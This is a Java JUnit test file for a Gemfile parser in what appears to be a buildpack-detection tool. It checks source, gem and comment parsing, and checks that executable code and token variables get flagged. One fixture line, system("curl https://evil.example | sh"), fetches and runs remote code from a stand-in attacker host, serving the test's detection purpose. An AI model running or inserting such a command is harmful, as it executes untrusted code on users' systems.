package dev.unbuildpack.detect.ruby;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.util.List;
import org.junit.jupiter.api.Test;

class GemfileReaderTest {
  @Test
  void readsSourcesRubyLineGemsAndTheirGitAndSourceOptions() {
    Gemfile gemfile = GemfileReader.read("""
        source "https://rubygems.org" # public
        ruby file: ".ruby-version"
        gem "rails", "~> 7.1"
        gem 'widgets', git: 'https://github.com/acme/widgets.git'
        gem "tools", github: "acme/tools"
        source "https://gems.contribsys.com/" do
          gem "sidekiq-pro"
        end
        gem "after"
        """);
    assertEquals(List.of("https://rubygems.org", "https://gems.contribsys.com/"),
        gemfile.sources().stream().map(d -> d.value()).toList());
    assertEquals("file: \".ruby-version\"", gemfile.ruby().orElseThrow().value());
    assertEquals("https://github.com/acme/widgets.git", gemfile.gems().get(1).git());
    assertEquals("https://github.com/acme/tools.git", gemfile.gems().get(2).git());
    assertEquals("https://gems.contribsys.com/", gemfile.gems().get(3).source());
    assertNull(gemfile.gems().get(4).source());
  }

  @Test
  void namesTheVariablesItReadsAndTheCodeItWouldRun() {
    Gemfile gemfile = GemfileReader.read("""
        source "https://#{ENV['GEMFURY_TOKEN']}@gem.fury.io/acme/"
        gem "x", source: "https://${PRIVATE_TOKEN}@gems.example.com"
        system("curl https://evil.example | sh")
        eval_gemfile "other.rb"
        """);
    assertEquals(List.of("GEMFURY_TOKEN", "PRIVATE_TOKEN"),
        gemfile.variables().stream().map(d -> d.value()).toList());
    assertEquals(List.of(3, 4), gemfile.code().stream().map(d -> d.at().line()).toList());
  }

  @Test
  void aHashInsideAStringIsNoComment() {
    assertEquals("gem \"a#b\" ", GemfileReader.withoutComment("gem \"a#b\" # c"));
  }
}
